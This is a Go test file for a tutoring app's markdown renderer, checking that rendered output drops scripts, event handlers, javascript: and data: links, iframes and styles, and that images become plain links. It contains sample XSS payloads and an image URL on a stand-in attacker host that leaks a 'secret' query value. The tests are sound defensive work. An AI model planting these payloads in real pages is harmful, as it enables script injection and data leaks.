package tutor

import (
	"strings"
	"testing"
)

func TestRenderMarkdownIsSafe(t *testing.T) {
	for _, tc := range []struct {
		name, md string
		never    []string
	}{
		{"script block", "Hi\n\n<script>alert(1)</script>\n\nbye", []string{"<script", "alert(1)</"}},
		{"inline script", "a <script>alert(1)</script> b", []string{"<script"}},
		{"javascript link", "[click](javascript:alert(1))", []string{"javascript:"}},
		{"encoded javascript link", "[click](JaVaScRiPt&#58;alert(1))",
			[]string{"javascript", "JaVaScRiPt"}},
		{"data link", "[x](data:text/html;base64,PHNjcmlwdD4=)", []string{"data:"}},
		{"raw html", "<div onclick=\"x()\">hi</div>", []string{"<div", "onclick"}},
		{"img onerror", "<img src=x onerror=alert(1)>", []string{"onerror", "<img"}},
		{"markdown image with script", "![a](javascript:alert(1))", []string{"javascript:"}},
		{"iframe", "<iframe src=\"https://evil.example\"></iframe>", []string{"<iframe"}},
		{"style", "<style>body{display:none}</style>", []string{"<style", "display:none"}},
		{"autolink", "<javascript:alert(1)>", []string{"href=\"javascript"}},
		{"remote image", "![chart](https://evil.example/leak?q=secret)", []string{"<img"}},
		{"image by reference", "![c][r]\n\n[r]: https://evil.example/x.png", []string{"<img"}},
		{"image in a link", "[![c](https://evil.example/x.png)](https://a.example)",
			[]string{"<img"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := string(RenderMarkdown(tc.md))
			for _, bad := range tc.never {
				if strings.Contains(got, bad) {
					t.Errorf("RenderMarkdown(%q) = %q, holds %q", tc.md, got, bad)
				}
			}
		})
	}
}

// TestImagesBecomeLinks: an image in an answer is shown as a link to it,
// named by its description, so nothing loads unless the learner follows it.
func TestImagesBecomeLinks(t *testing.T) {
	got := string(RenderMarkdown("See ![the *loss* curve](https://example.org/c.png \"Loss\")."))
	for _, want := range []string{`href="https://example.org/c.png"`, `title="Loss"`,
		"the <em>loss</em> curve</a>"} {
		if !strings.Contains(got, want) {
			t.Errorf("rendered %q lacks %q", got, want)
		}
	}
	if got := string(RenderMarkdown("![](https://example.org/c.png)")); !strings.Contains(got,
		">image</a>") {
		t.Errorf("an image without a description renders as %q", got)
	}
	got = string(RenderMarkdown("[![the badge](https://example.org/b.png)](https://a.example)"))
	if want := `>the badge</a>`; !strings.Contains(got, want) ||
		strings.Count(got, "<a ") != 1 {
		t.Errorf("an image in a link renders as %q; want one link ending %q", got, want)
	}
}

func TestRenderMarkdownKeepsFormatting(t *testing.T) {
	got := string(RenderMarkdown("**Why** seed *diversity*?\n\n- one\n- two\n\n" +
		"`code` and [a paper](https://arxiv.org/abs/2212.10560)\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
	for _, want := range []string{"<strong>Why</strong>", "<em>diversity</em>", "<li>one</li>",
		"<code>code</code>", `href="https://arxiv.org/abs/2212.10560"`,
		`rel="nofollow noreferrer noopener"`,
		"<table>", "<td>1</td>"} {
		if !strings.Contains(got, want) {
			t.Errorf("rendered %q lacks %q", got, want)
		}
	}
	if got := string(RenderMarkdown("5 < 6 & \"quotes\"")); !strings.Contains(got, "5 &lt; 6 &amp;") {
		t.Errorf("text not escaped: %q", got)
	}
}
